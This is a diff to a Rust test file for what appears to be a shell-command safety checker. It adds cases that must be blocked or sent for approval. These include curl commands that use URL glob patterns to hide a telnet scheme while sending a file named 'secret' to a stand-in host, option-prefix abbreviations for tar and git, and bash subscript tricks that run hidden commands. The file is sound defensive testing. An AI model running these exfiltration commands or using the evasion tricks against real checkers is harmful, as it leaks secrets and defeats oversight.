@@ -91,9 +91,13 @@ const DIFFERENTIALS: &[(&str, &str, Decision)] = &[
         RequireApproval,
     ),
     ("a dict request", "curl dict://127.0.0.1:2628/d:x", RequireApproval),
+    ("a scheme in a URL pattern", "curl '{telnet,http}://c.test:23' < secret", RequireApproval),
+    ("a scheme in a range pattern", "curl '[t-t]elnet://c.test:23' < secret", RequireApproval),
     ("rustfmt rewrites what it is given", "rustfmt /tmp/outside/x.rs", Block),
     ("black too", "black /tmp/outside/x.py", Block),
     ("isort too", "isort /tmp/outside/x.py", Block),
+    ("`gofmt -w` too", "gofmt -w /tmp/outside/x.go", Block),
+    ("`tsc --outDir` writes there", "tsc --outDir /tmp/outside", Block),
     ("tar takes `--cre` for `--create`", "tar --cre -f /tmp/outside/a.tar src", Block),
     ("and `--app` for `--append`", "tar --app -f /tmp/outside/a.tar src", Block),
     ("and `--remove-f` for `--remove-files`", "tar --remove-f -cf a.tar /tmp/outside/x", Block),
@@ -103,6 +107,7 @@ const DIFFERENTIALS: &[(&str, &str, Decision)] = &[
         Block,
     ),
     ("its prefix too", "git interpret-trailers --in-pl /tmp/outside/f", Block),
+    ("its shortest prefix", "git interpret-trailers --in /tmp/outside/f", Block),
     ("`git maintenance start` schedules git", "git maintenance start", Block),
     (
         "`cp --parents` appends the source's `..`",
@@ -114,6 +119,11 @@ const DIFFERENTIALS: &[(&str, &str, Decision)] = &[
     ("a subscript naming a variable is evaluated", "x=$(cat f); a[x]=1", Block),
     ("a compound assignment's subscript", "a=([$(cat f)]=1)", Block),
     ("a subscript of a variable's value", "a[$i]=1", RequireApproval),
+    ("an associative declaration after the assignment", "x=$(cat f); a[x]=1; declare -A a", Block),
+    ("`declare` with a subscript", "x=$(cat f); declare a[x]=1", Block),
+    ("`printf -v` into a subscript", "x=$(cat f); printf -v 'a[x]' 1", Block),
+    ("`read` into a subscript", "read 'a[x]' < f", Block),
+    ("`unset` of a run-time name", "unset $V; ls", Block),
 ];
 
 /// Everyday lines near the cases above, which must keep no finding.
@@ -138,7 +148,10 @@ const EVERYDAY: &[&str] = &[
     "cp --parents src/a/b.txt backup/",
     "a[0]=x; a[1]=y",
     "a=(one two three)",
-    "declare -A m; m[key]=v",
+    "unset PYTHONPATH http_proxy",
+    "gofmt -l src",
+    "black --exclude '/build/' --check src",
+    "tsc --noEmit -p tsconfig.json",
 ];
 
 #[test]
